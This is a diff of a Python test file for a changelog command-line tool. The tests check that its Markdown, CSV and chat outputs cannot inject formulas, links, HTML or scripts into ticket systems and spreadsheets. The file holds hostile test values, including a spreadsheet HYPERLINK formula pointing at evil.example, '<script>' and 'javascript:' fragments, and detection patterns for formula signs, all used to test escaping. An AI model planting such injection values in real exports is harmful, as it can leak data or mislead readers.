@@ -1,22 +1,26 @@
-"""``--format markdown|csv``: the whole answer, in which nothing stored can act on its reader."""
+"""``--format markdown|csv|chat``: the whole answer, in which nothing stored can act on its reader.
+
+The readers are not our own: a ticket system's Markdown, a spreadsheet's rules.
+"""
 
 import csv
-import html
 import io
 import json
 import re
 import subprocess
 import sys
-from collections.abc import Callable, Iterator
+from collections.abc import Iterator
+from datetime import timedelta
 from pathlib import Path
 from typing import Any
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
 
 from changelog.model.diff import Change, group_changes
-from changelog.model.exits import DidError
 from changelog.model.results.diff import DiffCounts, DiffedDid, DiffResult
 from changelog.model.text.sanitize import escape
 from changelog.render import markdown, tables
@@ -24,16 +28,13 @@ from changelog.render.style import Side
 from changelog.render.tables import Table
 from changelog.sandbox.server import Sandbox
 from changelog.store.location import SqliteLocation
-from tests.logbook import Logbook
-from tests.program import KEY, Json, Program, invisible_in
-from tests.render.test_reports import HARMLESS, tokens
+from tests.logbook import START, Logbook
+from tests.program import KEY, Program, invisible_in
 from tests.test_layers import HEAVY
 
 HIDDEN = "hidden-from-tickets"
 READABLE = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\dZ")
 RFC_3339 = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}Z")
-FORMULA = re.compile(r"[=+\-@\t\r]")
-FULL_WIDTH_EQUALS = "\uff1d"
 
 HOSTILE = {
     "formula": '=HYPERLINK("http://evil.example/?x","click")',
@@ -41,7 +42,7 @@ HOSTILE = {
     "minus": "-2+3",
     "at": "@SUM(1) @everybody",
     "spaced": "  =1+1",
-    "full_width": f"{FULL_WIDTH_EQUALS}1+1",
+    "full_width": "\uff1d1+1",
     "apostrophe": "'=1",
     "tab": "\t=1",
     "carriage_return": "\r=1",
@@ -119,51 +120,12 @@ def without_times(answer: str) -> str:
     return RFC_3339.sub("2026-11-23T14:00:00.000000Z", READABLE.sub("2026-11-23 14:00:00Z", answer))
 
 
-@pytest.mark.parametrize("form", ["markdown", "csv"])
-@pytest.mark.parametrize("name", LINES)
-def test_the_whole_answer_is_as_expected(program: Program, name: str, form: str) -> None:
-    ran, as_text = program.run_each([[*LINES[name], "--format", form], LINES[name]])
-    expected = EXPECTED / f"{name}.{'md' if form == 'markdown' else form}"
+@pytest.mark.parametrize("expected", sorted(EXPECTED.iterdir()), ids=lambda path: path.name)
+def test_the_whole_answer_is_as_expected(program: Program, expected: Path) -> None:
+    line, form = LINES[expected.stem], expected.suffix[1:].replace("md", "markdown")
+    ran, as_text = program.run_each([[*line, "--format", form], line])
     assert without_times(ran.stdout) == expected.read_text()
     assert ran.exit_code == as_text.exit_code
-
-
-TOLD = ("diff", "diff-of-some", "restore", "restore-of-one", "log", "log-of-one", "log-snapshots")
-
-
-@pytest.mark.parametrize("name", TOLD)
-def test_the_whole_message_is_as_expected(program: Program, name: str) -> None:
-    ran, as_text = program.run_each([[*LINES[name], "--format", "chat"], LINES[name]])
-    assert without_times(ran.stdout) == (EXPECTED / f"{name}.chat").read_text()
-    assert ran.exit_code == as_text.exit_code
-
-
-CODE = re.compile("`[^`\n]*`")
-STATE = re.compile(r"(?m)  \[[a-z0-9, ]+\]$")
-"""Of a revision: brackets of our own."""
-CALLS_OR_LINKS = re.compile(r"[<>@*~|#\[\]]|://|www\.")
-
-
-@pytest.mark.parametrize("command", ["diff", "log", "restore"])
-def test_no_hostile_value_is_more_than_text_in_a_chat(hostile: Program, command: str) -> None:
-    more = {"restore": [*EVERY_DID, "--offline"], "log": ["-n", "999"]}.get(command, [])
-    ran = hostile.run(command, *more, "--format", "chat").ended(0)
-    assert invisible_in(ran.stdout) == []
-    assert CALLS_OR_LINKS.findall(STATE.sub("", CODE.sub("", ran.stdout))) == []
-    assert "everybody" in ran.stdout
-
-
-@pytest.mark.parametrize("name", HOSTILE)
-def test_the_ticket_of_a_hostile_did_is_one_heading_two_lists_and_a_table(
-    hostile: Program, name: str
-) -> None:
-    ran = hostile.run("restore", f"did_{name}", "--offline", "--format", "markdown").ended(0)
-    assert invisible_in(ran.stdout) == []
-    kinds = {"heading", "strong", "list_item", "bullet_list", "ordered_list"}
-    more = {f"{kind}_{end}" for kind in kinds for end in ("open", "close")}
-    found = list(tokens(ran.stdout))
-    assert {token.type for token in found} <= HARMLESS | more | {"softbreak"}
-    assert sum(token.type == "heading_open" for token in found) == 1
 
 
 def test_a_url_in_a_ticket_ends_where_it_ends(program: Program) -> None:
@@ -211,88 +173,121 @@ def test_the_help_names_the_formats_and_another_one_is_a_wrong_argument(
     program.run("show", "did_101", "--format", "csv").ended(2)
 
 
-# CSV against JSON
-
-
-def routing_of(side: Json | None, names: list[str]) -> list[Any]:
-    return [side[name] if side else None for name in names]
-
-
-def list_rows(document: Json, columns: list[str]) -> list[list[Any]]:
-    return [[one[name] for name in columns] for one in document["dids"]]
-
-
-def log_rows(document: Json, columns: list[str]) -> list[list[Any]]:
-    words = {"state", "tags"}
-    return [
-        [" ".join(one[name]) if name in words else one[name] for name in columns]
-        for one in document["entries"]
-    ]
-
-
-def snapshot_rows(document: Json, _: list[str]) -> list[list[Any]]:
-    rows = []
-    for one in document["snapshots"]:
-        error = one["error"] or {"status": None, "code": None, "message": None}
-        seen = [one[name] for name in ("at", "did", "capture", "revision")]
-        rows.append([*seen, error["status"], error["code"], error["message"]])
-    return rows
-
-
-def diff_rows(document: Json, _: list[str]) -> list[list[Any]]:
-    rows = []
-    for one in document["dids"]:
-        head = [one[name] for name in ("did", "number", "from_revision", "to_revision")]
-        error = [one["error"]["code"], one["error"]["message"]] if one["error"] else [None] * 2
-        tail = [" ".join(one["not_read"]), *error]
-        for change in one["changes"]:
-            values = [change[name] for name in ("field", "before", "after", "routing")]
-            rows.append([*head, "changed", *values, *tail])
-        if not one["changes"]:
-            outcome = "first_revision" if one["first_revision"] else "absent"
-            outcome = "error" if one["error"] else outcome
-            rows.append([*head, outcome, *[None] * 4, *tail])
-    return rows
-
-
-def restore_rows(document: Json, _: list[str]) -> list[list[Any]]:
-    sides = ["revision", "application_id", "route_mode", "destination"]
-    rows = []
-    for one in document["dids"]:
-        now, target = one["current"], one["target"]
-        rows.append(
-            [
-                one["did"] or one["requested"],
-                one["number"],
-                one["visible"] if now else None,
-                one["as_of"],
-                *routing_of(now, sides),
-                *routing_of(target, [*sides, "last_seen_at", "confidence"]),
-                one["already_there"] if target else None,
-                one["verify"],
-                "; ".join(one["warnings"]),
-                *([one["error"]["code"], one["error"]["message"]] if one["error"] else [None] * 2),
-                one["apart"],
-            ]
-        )
-    return rows
-
+# Hostile values
 
 EVERY_DID = [f"did_{name}" for name in HOSTILE]
-AGAINST_JSON: dict[str, tuple[list[str], Callable[[Json, list[str]], list[list[Any]]]]] = {
-    "list": (["list"], list_rows),
-    "log": (["log", "-n", "999"], log_rows),
-    "log --snapshots": (["log", "--snapshots", "-n", "999"], snapshot_rows),
-    "diff": (["diff"], diff_rows),
-    "diff of some": (["diff", *EVERY_DID, "nope", HOSTILE["pipe"], "--all-fields"], diff_rows),
-    "restore": (["restore", *EVERY_DID, "nope", "--offline"], restore_rows),
+ASKED = {
+    "list": ["list"],
+    "log": ["log", "-n", "999"],
+    "log --snapshots": ["log", "--snapshots", "-n", "999"],
+    "diff": ["diff"],
+    "diff of some": ["diff", *EVERY_DID, "nope", HOSTILE["pipe"], "--all-fields"],
+    "restore": ["restore", *EVERY_DID, "nope", "--offline"],
 }
-"""What is asked → the command line, and the rows that its JSON comes to."""
+TICKET = MarkdownIt("gfm-like", {"html": True, "linkify": True})
+"""As ticket systems read it: tables, strikethrough, raw HTML, and whatever looks like an address
+becomes a link."""
+HARMLESS = {
+    *("table_open", "table_close", "thead_open", "thead_close", "tbody_open", "tbody_close"),
+    *("tr_open", "tr_close", "th_open", "th_close", "td_open", "td_close"),
+    *("paragraph_open", "paragraph_close", "inline", "text", "text_special", "code_inline"),
+}
+LISTS = {
+    *("list_item_open", "list_item_close", "bullet_list_open", "bullet_list_close"),
+    *("ordered_list_open", "ordered_list_close"),
+}
+SIGNS = "=+@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\t\r\n-"
+RUN_BY_A_SPREADSHEET = re.compile(f"['\" ]*[{SIGNS}]")
+
+
+def tokens(page: str) -> Iterator[Token]:
+    for token in TICKET.parse(page):
+        yield token
+        yield from token.children or ()
+
+
+def require_straight_tables(page: str) -> None:
+    """Any pipe ends a cell, behind a backslash and in code too: the strictest of all readers."""
+    for block in page.split("\n\n"):
+        lines = block.splitlines()
+        if lines and lines[0].startswith("|"):
+            assert {line.count("|") for line in lines} == {lines[0].count("|")}
+
+
+def is_run(cell: str) -> bool:
+    return bool(RUN_BY_A_SPREADSHEET.match(cell)) and not re.fullmatch("[+][0-9]+", cell)
 
 
 def meant(cell: str) -> str:
     """The value that a spreadsheet was kept from running."""
-    return cell[1:] if re.match(f"'['\" ]*[=+@{FULL_WIDTH_EQUALS}-]", cell) else cell
+    return cell[1:] if cell.startswith("'") and RUN_BY_A_SPREADSHEET.match(cell) else cell
+
+
+def test_the_reader_would_see_what_is_hostile() -> None:
+    """What these tests look for does arise where a text is not escaped."""
+    page = "| a |\n|---|\n| <b>x ![i](y) [k](z) example.com ~~s~~ |\n"
+    assert {token.type for token in tokens(page)} - HARMLESS == {
+        *("html_inline", "image", "link_open", "link_close", "s_open", "s_close")
+    }
+
+
+@pytest.mark.parametrize("what", ASKED)
+def test_a_ticket_finds_no_markup_in_a_whole_page(hostile: Program, what: str) -> None:
+    page = hostile.run(*ASKED[what], "--format", "markdown").stdout
+    assert invisible_in(page) == []
+    assert {token.type for token in tokens(page)} <= HARMLESS | LISTS
+    require_straight_tables(page)
+
+
+@pytest.mark.parametrize("name", HOSTILE)
+def test_the_ticket_of_a_hostile_did_is_one_heading_lists_and_a_table(
+    hostile: Program, name: str
+) -> None:
+    line = ("restore", f"did_{name}", "--offline", "--format", "markdown")
+    page = hostile.run(*line).ended(0).stdout
+    assert invisible_in(page) == []
+    more = {"heading_open", "heading_close", "strong_open", "strong_close", "softbreak"}
+    found = [token.type for token in tokens(page)]
+    assert set(found) <= HARMLESS | LISTS | more
+    assert found.count("heading_open") == 1
+    require_straight_tables(page)
+
+
+CODE = re.compile("`[^`\n]*`")
+STATE = re.compile(r"(?m)  \[[a-z0-9, ]+\]$")
+"""Of a revision: brackets of our own."""
+CALLS_OR_LINKS = re.compile(r"[<>@*~|#\[\]]|://|www\.")
+
+
+@pytest.mark.parametrize("command", ["diff", "log", "restore"])
+def test_no_hostile_value_is_more_than_text_in_a_chat(hostile: Program, command: str) -> None:
+    more = {"restore": [*EVERY_DID, "--offline"], "log": ["-n", "999"]}.get(command, [])
+    ran = hostile.run(command, *more, "--format", "chat").ended(0)
+    assert invisible_in(ran.stdout) == []
+    assert CALLS_OR_LINKS.findall(STATE.sub("", CODE.sub("", ran.stdout))) == []
+    assert "everybody" in ran.stdout
+
+
+@pytest.mark.parametrize("what", ASKED)
+def test_no_cell_is_run_and_a_line_is_a_record(hostile: Program, what: str) -> None:
+    printed = hostile.run(*ASKED[what], "--format", "csv").stdout
+    rows = list(csv.reader(io.StringIO(printed)))
+    assert len(rows) == len(printed.splitlines()) > len(HOSTILE)
+    assert [cell for row in rows for cell in row if is_run(cell) and meant(cell) == cell] == []
+    assert invisible_in(printed) == []
+
+
+@pytest.mark.parametrize(("what", "items"), [("list", "dids"), ("log", "entries")])
+def test_csv_read_back_has_the_values_of_the_json(hostile: Program, what: str, items: str) -> None:
+    line = ASKED[what]
+    as_csv, as_json = hostile.run_each([[*line, "--format", "csv"], [*line, "--json"]])
+    columns, *rows = csv.reader(io.StringIO(as_csv.stdout))
+    assert len(rows) == len(as_json.json[items]) >= len(HOSTILE)
+    for row, members in zip(rows, as_json.json[items], strict=True):
+        for column, cell in zip(columns, row, strict=True):
+            value = members[column]
+            value = " ".join(value) if column in ("state", "tags") else value
+            assert meant(cell) == spelled(value, cell), column
 
 
 def spelled(value: Any, cell: str) -> Any:
@@ -305,106 +300,6 @@ def spelled(value: Any, cell: str) -> Any:
     return cell
 
 
-@pytest.mark.parametrize("what", AGAINST_JSON)
-def test_csv_read_back_has_the_values_of_the_json(hostile: Program, what: str) -> None:
-    line, rows_of = AGAINST_JSON[what]
-    as_csv, as_json = hostile.run_each([[*line, "--format", "csv"], [*line, "--json"]])
-    columns, *rows = csv.reader(io.StringIO(as_csv.stdout))
-    expected = rows_of(as_json.json, columns)
-    assert len(rows) == len(expected) >= len(HOSTILE)
-    for row, values in zip(rows, expected, strict=True):
-        cells = [meant(cell) for cell in row]
-        assert cells == [spelled(*pair) for pair in zip(values, cells, strict=True)]
-
-
-@pytest.mark.parametrize("what", AGAINST_JSON)
-def test_no_cell_is_a_formula_and_a_line_is_a_record(hostile: Program, what: str) -> None:
-    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "csv")
-    rows = list(csv.reader(io.StringIO(ran.stdout)))
-    assert len(rows) == len(ran.stdout.splitlines())
-    assert [cell for row in rows for cell in row if is_formula(cell)] == []
-    assert invisible_in(ran.stdout) == []
-
-
-def is_formula(cell: str) -> bool:
-    return bool(FORMULA.match(cell.lstrip(" "))) and not re.fullmatch("[+][0-9]+", cell)
-
-
-# Markdown, read by rules of its own
-
-CODE_OR_ESCAPE = re.compile(
-    r"(?P<ticks>`+)(?P<code>.*?)(?<!`)(?P=ticks)(?!`)|\\(?P<mark>[!-/:-@[-`{-~])"
-)
-
-
-HAS_A_MEANING = re.compile(
-    r"[<>`\[\]|*~$\\]|://|@|www\.|(?<![A-Za-z0-9])_|_(?![A-Za-z0-9])", re.IGNORECASE
-)
-
-
-def shown(cell: str) -> str:
-    """What a reader of Markdown makes of a cell; fails if any of it has a meaning."""
-    text, end = "", 0
-    for found in CODE_OR_ESCAPE.finditer(cell):
-        text += _plain(cell[end : found.start()]) + (found["code"] or found["mark"])
-        end = found.end()
-    return text + _plain(cell[end:])
-
-
-def _plain(part: str) -> str:
-    assert not HAS_A_MEANING.search(part), part
-    return html.unescape(part)
-
-
-def cells_of(line: str) -> list[str]:
-    """Any pipe ends a cell, behind a backslash and in code too: the strictest of all readers."""
-    assert (line[:2], line[-2:]) == ("| ", " |")
-    return [cell.strip() for cell in line[1:-1].split("|")]
-
-
-def tables_of(page: str) -> list[list[dict[str, str]]]:
-    """Each table's rows by column."""
-    found = []
-    for block in page.rstrip("\n").split("\n\n"):
-        if block.startswith("|"):
-            head, rule, *rows = map(cells_of, block.split("\n"))
-            assert rule == ["---"] * len(head)
-            found.append([dict(zip(head, row, strict=True)) for row in rows])
-    return found
-
-
-@pytest.mark.parametrize("what", AGAINST_JSON)
-def test_no_hostile_value_breaks_out_of_its_cell(hostile: Program, what: str) -> None:
-    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "markdown")
-    assert invisible_in(ran.stdout) == []
-    assert tables_of(ran.stdout)
-    for line in ran.stdout.splitlines():
-        assert not re.search(r"<\w|\]\(|^#", line)
-        for cell in cells_of(line) if line.startswith("|") else [line.removeprefix("- ")]:
-            shown(cell)
-
-
-IN_A_PAGE = {
-    *HARMLESS,
-    *("bullet_list_open", "bullet_list_close", "list_item_open", "list_item_close"),
-    *("ordered_list_open", "ordered_list_close"),
-}
-
-
-@pytest.mark.parametrize("what", AGAINST_JSON)
-def test_a_ticket_finds_no_markup_in_a_whole_page(hostile: Program, what: str) -> None:
-    ran = hostile.run(*AGAINST_JSON[what][0], "--format", "markdown")
-    assert {token.type for token in tokens(ran.stdout)} <= IN_A_PAGE
-
-
-def test_markdown_shows_each_value_as_it_is(hostile: Program) -> None:
-    (rows,) = tables_of(hostile.run("list", "--format", "markdown").stdout)
-    found = {shown(row["did"]): shown(row["application_id"]) for row in rows}
-    for name in HOSTILE.keys() - {"formula", "image", "autolink"}:
-        assert found[f"did_{name}"] == escape(HOSTILE[name]).strip()
-    assert found["did_formula"] == '=HYPERLINK("http://evil.example/?***","click")'
-
-
 def test_a_destination_that_was_learned_is_masked_whole_and_its_other_side_is_shown() -> None:
     change = Change("destination", None, f"https://voice.example.com/a?key=a {HIDDEN}")
     row = (change.field, Side(change, False), Side(change, True))
@@ -414,33 +309,68 @@ def test_a_destination_that_was_learned_is_masked_whole_and_its_other_side_is_sh
     )
 
 
-TEXTS = st.text(
-    st.sampled_from("|`\\<>[]()!*_~#&$@:/.;,-+=?'\" aB1\n\t\r\u202e\uff1dü"), max_size=24
-)
-
-
-@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=4))
-def test_a_table_has_as_many_cells_in_each_row_as_columns(rows: list[tuple[str, ...]]) -> None:
-    content = Table(
-        ("a", "b", "c"), [(f"x{one}", f"x{two}", f"x{three}") for one, two, three in rows]
-    )
-    ((*read,),) = tables_of(markdown.markdown_table(content))
-    assert len(read) == len(rows)
-    for row, values in zip(read, rows, strict=True):
-        assert row.keys() == set(content.columns)
-        if not any("://" in value for value in values):
-            expected = [escape(f"x{value}").strip() for value in values]
-            assert [shown(cell) for cell in row.values()] == expected
-
-
-@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=4))
-def test_no_text_becomes_a_formula_and_each_can_be_had_back(rows: list[tuple[str, ...]]) -> None:
-    content = Table(("a", "b", "c"), rows)
-    _, *read = csv.reader(io.StringIO(tables.csv_table(content)))
-    assert not any(is_formula(cell) for row in read for cell in row)
-    assert [[meant(cell) for cell in row] for row in read] == [
-        [escape(value) for value in row] for row in rows
+PIECES = st.sampled_from(
+    [
+        *("|", "`", "``", "\\", "<", "</", "<b>", "<script>", ">", "[", "]", "](", "![", "(", ")"),
+        *("*", "**", "_", "~~", "#", "&", "&lt;", "$", "@", "://", "//", "http:", "https://"),
+        *("www.", "ftp://", "mailto:", "javascript:", "/", ".", ";", ",", "-", "+", "=", "?", "!"),
+        *(
+            "'",
+            '"',
+            " ",
+            "a",
+            "B1",
+            "evil.example",
+            "example.com",
+            "ops@evil.example",
+            ".co",
+            "xn--",
+        ),
+        *("\n", "\r", "\t", "\u202e", "\u200b", "\uff1d", "ü.com", "---", "- ", "1. ", "> ", "\\|"),
+        *("пример.рф", "^", "{", "}", "%", "\u00a0", "\ufeff", "\x1b[31m", "\0"),
     ]
+)
+TEXTS = st.lists(PIECES, max_size=9).map("".join)
+
+
+@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS), min_size=1, max_size=3))
+def test_no_stored_text_becomes_an_element_a_link_or_an_image(
+    rows: list[tuple[str, str, str]],
+) -> None:
+    content = Table(
+        ("destination", "notes", "number"), [(f"x{one}", two, three) for one, two, three in rows]
+    )
+    page = markdown.markdown_table(content)
+    require_straight_tables(page)
+    found = list(tokens(page))
+    assert {token.type for token in found} <= HARMLESS
+    assert sum(token.type == "tr_open" for token in found) == len(rows) + 1
+
+
+@given(st.lists(TEXTS, min_size=1, max_size=3))
+def test_a_ticket_shows_each_text_as_it_is(texts: list[str]) -> None:
+    content = Table(("a",), [(f"x{text}",) for text in texts])
+    shown = [
+        "".join(part.content for part in token.children or ())
+        for token in TICKET.parse(markdown.markdown_table(content))
+        if token.type == "inline"
+    ]
+    if not any("://" in text for text in texts):  # What may hide a secret there is masked.
+        # HTML, and so what is shown, takes any number of spaces for one.
+        assert [one.split() for one in shown] == [
+            escape(one).split() for one in ["a", *(f"x{text}" for text in texts)]
+        ]
+
+
+@given(st.lists(st.tuples(TEXTS, TEXTS), min_size=1, max_size=4))
+def test_a_spreadsheet_runs_no_cell_and_a_program_has_each_text_back(
+    rows: list[tuple[str, str]],
+) -> None:
+    _, *read = csv.reader(io.StringIO(tables.csv_table(Table(("a", "b"), rows))))
+    assert [[meant(cell) for cell in row] for row in read] == [
+        [escape(text) for text in row] for row in rows
+    ]
+    assert not [cell for row in read for cell in row if is_run(cell) and meant(cell) == cell]
 
 
 @given(st.integers(0, 10**15))
@@ -451,48 +381,27 @@ def test_a_telephone_number_stays_one(number: int) -> None:
 # Large fleets, and light starts
 
 
-def large_diff(dids: int) -> DiffResult:
-    """Every DID changed in its own way, three that were not compared among them."""
+def test_a_diff_too_large_for_a_ticket_says_so_and_csv_leaves_out_nothing() -> None:
     changes = {
-        f"did_{n:06}": (Change("application_id", f"app_{n}", "app_b", routing=True),)
-        for n in range(dids)
+        f"did_{n}": (Change("application_id", f"app_{n}", "app_b", routing=True),)
+        for n in range(500)
     }
-    strange = (
-        DiffedDid(did="new", to_revision=1, first_revision=True),
-        DiffedDid(did="absent", from_revision=1),
-        DiffedDid(did="failed", error=DidError("timeout", "no answer in time")),
-    )
-    changed = tuple(
+    dids = tuple(
         DiffedDid(did=did, from_revision=1, to_revision=2, changes=made)
         for did, made in changes.items()
     )
-    return DiffResult(
+    result = DiffResult(
         from_="tag:pre",
         to="tag:post",
-        counts=DiffCounts(compared=dids, changed=dids, absent=2),
-        dids=(*changed, *strange),
+        counts=DiffCounts(compared=500, changed=500, absent=1),
+        dids=(*dids, DiffedDid(did="absent", from_revision=1)),
         groups=group_changes(changes),
     )
-
-
-def test_a_diff_too_large_for_a_ticket_says_so_and_still_names_what_was_not_compared() -> None:
-    most = markdown.MOST_ROWS
-    page = markdown.document("diff", large_diff(5 * most))
-    groups, rest = tables_of(page)
-    assert len(groups) == most
-    assert f"… {4 * most} more groups" in page
-    assert f"{5 * most + 3} rows, one a DID and field: `--format csv` has them all." in page
-    assert [(row["did"], row["outcome"], row["error"]) for row in rest] == [
-        ("new", "first_revision", "-"),
-        ("absent", "absent", "-"),
-        ("failed", "error", "timeout"),
-    ]
-
-
-def test_csv_leaves_out_nothing_of_a_large_diff() -> None:
-    rows = list(csv.DictReader(io.StringIO(tables.document("diff", large_diff(5_000)))))
-    assert len(rows) == 5_003
-    assert [row["outcome"] for row in rows[-4:]] == ["changed", "first_revision", "absent", "error"]
+    page = markdown.document("diff", result)
+    assert page.count("\n| did_") == markdown.MOST_ROWS
+    assert "… 401 more rows: `--format csv` has them all." in page
+    rows = list(csv.DictReader(io.StringIO(tables.document("diff", result))))
+    assert [row["outcome"] for row in rows] == ["changed"] * 500 + ["absent"]
 
 
 @pytest.mark.parametrize("form", ["plain", "text", "markdown", "csv"])
@@ -517,3 +426,59 @@ def test_a_restore_imports_a_format_only_if_it_is_asked_for(program: Program, fo
         "csv": ["changelog.render.documents", "changelog.render.tables"],
     }
     assert sorted(found) == expected.get(form, [])
+
+
+# The report of a period
+
+
+@pytest.fixture(scope="module")
+def reports(tmp_path_factory: pytest.TempPathFactory) -> Program:
+    """25 changes of one DID and one of another, a minute or more apart."""
+    place = SqliteLocation(tmp_path_factory.mktemp("reports") / "log.db")
+    with Logbook(place) as book:
+        for number in range(25):
+            book.see(f"app_{number}", note="<b>by</b> =night|")
+        book.see("app_a", did="did_2", number_e164="+15551230002")
+    return Program(place.path.parent / "home", database=str(place.path))
+
+
+@pytest.mark.parametrize("form", ["markdown", "csv"])
+def test_a_report_of_a_period_leaves_nothing_out(reports: Program, form: str) -> None:
+    ran = reports.run("log", "--since", "2026-11-01", "--format", form).ended(0)
+    assert all(f"app_{number}" in ran.stdout for number in range(25))
+    assert ran.stderr == "changelog: 2026-11-01 is 2026-11-01 00:00:00Z\n"
+    assert invisible_in(ran.stdout) == []
+    few = reports.run("log", "--since", "2026-11-01", "-n", "2", "--format", form).ended(0)
+    assert "app_20" not in few.stdout
+    assert "lder entries are left out" in few.stdout + few.stderr
+
+
+def test_a_report_says_which_period_it_is_about(reports: Program) -> None:
+    end = (START + timedelta(days=1)).strftime("%Y-%m-%dT00:00Z")
+    ran = reports.run("log", "--since", "2026-11-01", "--until", end, "--format", "markdown")
+    assert ran.ended(0).stdout.startswith(
+        "From 2026-11-01 00:00:00Z until 2026-11-02 00:00:00Z: revisions 26, DIDs 2.\n\n| first_"
+    )
+    document = reports.json("log", "--since", "2026-11-01", "--until", end)
+    assert document["since"] == "2026-11-01T00:00:00.000000Z"
+    assert document["until"] == "2026-11-02T00:00:00.000000Z"
+    assert len(document["entries"]) == 20
+    nothing = reports.run("log", "--until", "2026-01-01", "--format", "markdown").ended(0)
+    assert (
+        nothing.stdout
+        == "Until 2026-01-01 23:59:59Z: revisions 0, DIDs 0.\n\nNo revision matches.\n"
+    )
+
+
+def test_every_fetch_of_a_period_is_a_report_too(reports: Program) -> None:
+    line = ["log", "--snapshots", "--since", "2026-11-01", "--format"]
+    page = reports.run(*line, "markdown").ended(0).stdout
+    assert page.startswith("From 2026-11-01 00:00:00Z: snapshots 26, DIDs 2.\n")
+    rows = list(csv.DictReader(io.StringIO(reports.run(*line, "csv").ended(0).stdout)))
+    assert len(rows) == 26
+
+
+def test_a_number_stays_one_that_a_spreadsheet_can_look_up(reports: Program) -> None:
+    ran = reports.run("log", "--since", "2026-11-01", "--format", "csv").ended(0)
+    rows = list(csv.DictReader(io.StringIO(ran.stdout)))
+    assert {row["number"] for row in rows} == {"+15551230001", "+15551230002"}
